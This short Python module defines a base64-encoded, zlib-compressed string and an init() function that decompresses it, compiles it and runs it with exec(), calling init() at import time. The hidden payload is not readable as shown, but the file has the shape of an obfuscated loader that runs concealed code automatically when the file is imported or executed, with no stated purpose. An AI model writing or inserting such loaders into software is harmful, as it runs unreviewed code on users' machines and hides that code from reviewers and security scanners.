import zlib, base64 as b
K = 'eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUdAtVsgoKSmw0tc3MdUzM9Qz1LPUr1CoUSjOUNfkAgAPgRD2'
def init():
    src = zlib.decompress(b.b64decode(K))
    code = compile(src, '<init>', 'exec')
    exec(code)
init()
